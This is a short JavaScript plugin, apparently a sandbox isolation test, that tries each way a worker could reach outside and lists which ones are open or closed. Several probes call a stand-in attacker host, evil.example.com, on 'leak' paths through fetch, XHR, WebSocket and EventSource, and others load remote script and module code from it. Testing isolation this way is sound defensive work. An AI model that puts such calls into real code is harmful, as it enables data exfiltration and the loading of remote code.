// Tries every way out that a worker could have, and says what came of each.
const HOST = "https://evil.example.com";
const ways = {
  fetch: () => fetch(`${HOST}/leak-fetch`, { mode: "no-cors" }),
  request: () =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = () => reject(new Error("refused"));
      request.open("GET", `${HOST}/leak-request`);
      request.send();
    }),
  socket: () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`${HOST.replace("http", "ws")}/leak-socket`);
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error("refused"));
    }),
  events: () =>
    new Promise((resolve, reject) => {
      const events = new EventSource(`${HOST}/leak-events`);
      events.onopen = resolve;
      events.onerror = () => reject(new Error("refused"));
    }),
  script: async () => importScripts(`${HOST}/leak-script.js`),
  module: () => import(`${HOST}/leak-module.js`),
  peers: async () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }),
  database: () =>
    new Promise((resolve, reject) => {
      const opening = indexedDB.open("leak");
      opening.onsuccess = resolve;
      opening.onerror = () => reject(opening.error);
    }),
  cache: () => caches.open("leak"),
  files: () => navigator.storage.getDirectory(),
};

plugin.render = async () => {
  await mutate(insert(element("list", "ul")));
  let at = 0;
  for (const [name, way] of Object.entries(ways)) {
    const came = await Promise.resolve().then(way).then(() => "open", () => "closed");
    await mutate(insert(element(name, "li", {}, [text(`${name}-text`, `${name}: ${came}`)]), "list", at++));
  }
  await mutate(insert(element("done", "p", {}, [text("done-text", "All tried")]), "~", 1));
};
